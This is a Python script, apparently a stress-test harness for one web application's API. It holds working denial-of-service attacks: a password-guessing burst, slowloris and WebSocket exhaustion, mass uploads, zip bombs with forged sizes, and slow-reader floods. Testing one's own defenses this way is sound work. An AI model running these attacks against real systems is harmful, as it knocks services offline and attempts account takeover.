"""Those who attack, in a process of their own: NAME URL TOKEN...

Says what was answered, counted, as JSON.
"""

import asyncio
import contextlib
import io
import json
import random
import re
import resource
import string
import sys
import zipfile
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidHandshake

PASSWORD = "ein anderes gutes passwort"
_UPLOAD_BYTES = 19_900_000
_CHUNK_BYTES = 65_536
_PATIENCE_SECONDS = 120.0
_SLOW_SECONDS = 45.0
_HALVES = 500
_GIGABYTE = 1_000_000_000
_PIECE_BYTES = 10_000_000
_BOUNDARY = "----attack"
_CODE = re.compile(rb'"code": ?"(\w+)"')


@dataclass
class Target:
    """Who is attacked.

    Args:
        url: Of the application.
        tokens: Of members who attack.
    """

    url: str
    tokens: Sequence[str]

    @property
    def place(self) -> tuple[str, int]:
        """Host and port."""
        parts = urlsplit(self.url)
        return parts.hostname or "", parts.port or 0


Tally = Counter[str]
"""What attackers got, and how often."""


async def _all(count: int, attack: Callable[[int], Awaitable[str]]) -> Tally:
    """Many of them at once."""
    return Counter(await asyncio.gather(*(attack(number) for number in range(count))))


def _http(target: Target) -> httpx.AsyncClient:
    limits = httpx.Limits(max_connections=None, max_keepalive_connections=None)
    return httpx.AsyncClient(
        base_url=f"{target.url}/api",
        timeout=_PATIENCE_SECONDS,
        limits=limits,
        trust_env=False,
    )


def _said(answer: httpx.Response) -> str:
    with contextlib.suppress(ValueError, KeyError, TypeError):
        return f"{answer.status_code} {answer.json()['code']}"
    return str(answer.status_code)


async def wrong_passwords(target: Target) -> Tally:
    """A thousand at once, for one account."""
    async with _http(target) as http:

        async def guess(number: int) -> str:
            form = {"username": "owner", "password": f"guess {number}"}
            try:
                return _said(await http.post("/auth/token", data=form))
            except httpx.HTTPError as error:
                return type(error).__name__

        return await _all(1000, guess)


# -- half-open -----------------------------------------------------------------------------------


async def half_requests(target: Target) -> Tally:
    """A third says nothing, a third half a head, a third sends a head line by line."""

    async def half(number: int) -> str:
        reader, writer = await asyncio.open_connection(*target.place)
        with contextlib.suppress(OSError):
            if number % 3:
                writer.write(b"GET /api/health HTTP/1.1\r\nHost: a\r\nX-A: ")
            try:
                async with asyncio.timeout(_SLOW_SECONDS):
                    while not reader.at_eof():
                        if number % 3 == 2:
                            writer.write(b"b\r\nX-B: ")
                        with contextlib.suppress(TimeoutError):
                            async with asyncio.timeout(1):
                                answer = await reader.read(1000)
                                return answer[9:12].decode() or "hung up"
            except TimeoutError:
                return "still open"
            finally:
                writer.close()
        return "hung up"

    return await _all(_HALVES, half)


async def silent_websockets(target: Target) -> Tally:
    """They are accepted and never say who they are; whoever is closed comes again, for a while."""
    end = asyncio.get_running_loop().time() + 20

    async def silent(_number: int) -> str:
        code = "refused"
        while asyncio.get_running_loop().time() < end:
            with contextlib.suppress(OSError, InvalidHandshake, TimeoutError):
                address = target.url.replace("http", "ws", 1) + "/api/ws/progress"
                async with connect(
                    address, proxy=None, open_timeout=20, compression=None
                ) as websocket:
                    try:
                        await asyncio.wait_for(websocket.recv(), _SLOW_SECONDS)
                    except ConnectionClosed as closed:
                        code = f"closed with {closed.rcvd.code if closed.rcvd else 'nothing'}"
            await asyncio.sleep(1)
        return code

    return await _all(_HALVES, silent)


# -- uploads -------------------------------------------------------------------------------------


def _links(size: int) -> bytes:
    chance = random.Random(3)
    ids = ("".join(chance.choices(string.ascii_letters, k=11)) for _ in range(size // 29))
    return "\n".join(f"https://youtu.be/{video_id}" for video_id in ids).encode()


def _page(size: int) -> bytes:
    cell = (
        '<div class="outer-cell"><div class="content-cell">Watched <a '
        'href="https://www.youtube.com/watch?v=%s">Ein Titel 😀</a><br><a '
        'href="https://www.youtube.com/channel/UCx">Kanal</a></div></div>'
    )
    chance = random.Random(4)
    count = size // (len(cell) + 20)
    cells = (cell % "".join(chance.choices(string.ascii_letters, k=11)) for _ in range(count))
    return ("<html><body>" + "".join(cells)).encode()


def _form(content: bytes) -> bytes:
    head = (
        f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=file; filename=a\r\n"
        "Content-Type: application/octet-stream\r\n\r\n"
    )
    return head.encode() + content + f"\r\n--{_BOUNDARY}--\r\n".encode()


def _head(target: Target, number: int, size: int) -> bytes:
    lines = [
        "POST /api/imports/preview HTTP/1.1",
        "Host: a",
        f"Authorization: Bearer {target.tokens[number % len(target.tokens)]}",
        f"Content-Type: multipart/form-data; boundary={_BOUNDARY}",
        f"Content-Length: {size}",
    ]
    return "\r\n".join([*lines, "", ""]).encode()


async def _upload_all(target: Target, content: bytes, count: int, at_once: int) -> Tally:
    body = _form(content)
    room = asyncio.Semaphore(at_once)

    async def upload(number: int) -> str:
        async with room:
            reader, writer = await asyncio.open_connection(*target.place)
            answered = asyncio.create_task(_read_answer(reader))
            try:
                writer.write(_head(target, number, len(body)))
                for start in range(0, len(body), _CHUNK_BYTES):
                    # They go on sending whatever they are told.
                    writer.write(body[start : start + _CHUNK_BYTES])
                    await writer.drain()
                return await answered
            except OSError:
                # A page reads, too, while it sends.
                return await answered
            finally:
                writer.transport.abort()

    return await _all(count, upload)


async def _read_answer(reader: asyncio.StreamReader) -> str:
    answer = b""
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(_PATIENCE_SECONDS):
            while not (code := _CODE.search(answer)):
                part = await reader.read(4000)
                if not part:
                    return f"{answer[9:12].decode()} hung up".strip()
                answer += part
                if answer.startswith(b"HTTP/1.1 200"):
                    return "200"
            return f"{answer[9:12].decode()} {code[1].decode()}"
    return "nothing"


async def uploads_of_links(target: Target) -> Tally:
    """Of links, many more than an import may have."""
    return await _upload_all(target, _links(_UPLOAD_BYTES), 200, 200)


async def uploads_of_pages(target: Target) -> Tally:
    """Of pages with emoji, which take most memory."""
    return await _upload_all(target, _page(_UPLOAD_BYTES), 200, 200)


def _bomb(name: str, unpacked: bytes, count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(count):
            archive.writestr(f"{number}{name}", unpacked)
    return out.getvalue()


def _zeros(gigabytes: int) -> bytes:
    """An archive with one file of so much: a piece of it is compressed once and repeated.

    Its checksum is wrong, which nobody notices who does not unpack all of it.
    """
    piece = zlib.compressobj(wbits=-15)
    # After a full flush nothing refers to what came before.
    packed = piece.compress(b"0" * _PIECE_BYTES) + piece.flush(zlib.Z_FULL_FLUSH)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("links.txt", packed * (gigabytes * _GIGABYTE // _PIECE_BYTES))
        (info,) = archive.infolist()
        info.compress_type, info.file_size = zipfile.ZIP_DEFLATED, gigabytes * _GIGABYTE
    return out.getvalue()


async def flat_bombs(target: Target) -> Tally:
    """One file of 10 GB in 10 MB; twenty times, four at once."""
    bomb = await asyncio.to_thread(_zeros, 10)
    return await _upload_all(target, bomb, 20, 4)


async def nested_bombs(target: Target) -> Tally:
    """Ten archives of 1 GB in one; likewise."""
    inner = await asyncio.to_thread(_zeros, 1)
    return await _upload_all(target, _bomb(".zip", inner, 10), 20, 4)


# -- slow clients --------------------------------------------------------------------------------


async def slow_uploads(target: Target) -> Tally:
    """Uploads of 20 MB of which a byte comes each second."""
    begun = (
        b"--a\r\nContent-Disposition: form-data; name=file; filename=a\r\n"
        b"Content-Type: application/octet-stream\r\n\r\n"
    )
    kind = "multipart/form-data; boundary=a"
    return await _trickle(target, "/imports/preview", 100, _UPLOAD_BYTES, kind, begun)


async def slow_strangers(target: Target) -> Tally:
    """Bodies of 900 kB, nearly all of them sent at once and the rest never, by nobody who is known."""
    begun = b'"' + b"a" * 890_000
    return await _trickle(target, "/lists", _HALVES, 900_000, "application/json", begun)


async def _trickle(
    target: Target, path: str, count: int, size: int, kind: str, begun: bytes
) -> Tally:
    async def slow(number: int) -> str:
        reader, writer = await asyncio.open_connection(*target.place)
        answered = asyncio.create_task(_read_answer(reader))
        try:
            writer.write(
                f"POST /api{path} HTTP/1.1\r\nHost: a\r\nContent-Length: {size}\r\n"
                f"Authorization: Bearer {target.tokens[number % len(target.tokens)]}\r\n"
                f"Content-Type: {kind}\r\n\r\n".encode()
            )
            writer.write(begun)
            for _ in range(round(_SLOW_SECONDS)):
                if (await asyncio.wait([answered], timeout=1))[0]:
                    return answered.result()
                writer.write(b"a")
        finally:
            answered.cancel()
            writer.transport.abort()
        return "still open"

    return await _all(count, slow)


async def slow_readers(target: Target) -> Tally:
    """Exports and pages of 200 videos that are asked for again and again on 100 lines, and not read."""

    async def deaf(number: int) -> str:
        reader, writer = await asyncio.open_connection(*target.place, limit=1024)
        path = "/export?format=json" if number % 2 else "/search?q=video&limit=200"
        request = (
            f"GET /api{path} HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {target.tokens[number % len(target.tokens)]}\r\n\r\n"
        ).encode()
        code = "hung up"
        try:
            writer.write(request * 20)
            for _ in range(round(_SLOW_SECONDS)):
                await asyncio.sleep(1)
                part = await reader.read(100)
                if part.startswith(b"HTTP/1.1"):
                    code = part[9:12].decode()
                if not part:
                    return f"{code}, then hung up"
        except OSError:
            return f"{code}, then hung up"
        finally:
            writer.transport.abort()
        return f"{code}, still open"

    return await _all(100, deaf)


async def deaf_websockets(target: Target) -> Tally:
    """500 clients that sign in and read nothing, while videos are being imported."""

    async def deaf(number: int) -> str:
        address = target.url.replace("http", "ws", 1) + "/api/ws/progress"
        token = target.tokens[number % len(target.tokens)]
        try:
            async with connect(
                address,
                proxy=None,
                open_timeout=30,
                max_queue=1,
                ping_interval=None,
                compression=None,
            ) as websocket:
                await websocket.send(json.dumps({"type": "auth", "token": token}))
                await asyncio.sleep(_SLOW_SECONDS)
                websocket.transport.abort()
                return str(websocket.close_code or "still open")
        except (OSError, ConnectionClosed, InvalidHandshake, TimeoutError) as error:
            return type(error).__name__

    return await _all(_HALVES, deaf)


async def nothing(_target: Target) -> Tally:
    """Nobody attacks."""
    await asyncio.sleep(10)
    return Counter()


ATTACKS: dict[str, Callable[[Target], Awaitable[Tally]]] = {
    "nobody attacks": nothing,
    "1,000 wrong passwords": wrong_passwords,
    "500 half-open: half requests": half_requests,
    "500 half-open: WebSockets that say nothing": silent_websockets,
    "200 uploads of 20 MB at once: links": uploads_of_links,
    "200 uploads of 20 MB at once: pages": uploads_of_pages,
    "ZIP of 10 GB, flat": flat_bombs,
    "ZIP of 10 GB, nested": nested_bombs,
    "slow: uploads that trickle": slow_uploads,
    "slow: strangers' bodies that trickle": slow_strangers,
    "slow: answers that nobody reads": slow_readers,
    "slow: WebSockets that nobody reads": deaf_websockets,
}


if __name__ == "__main__":
    _soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, _hard), _hard))
    _name, _url, *_tokens = sys.argv[1:]
    print(json.dumps(asyncio.run(ATTACKS[_name](Target(_url, _tokens)))))
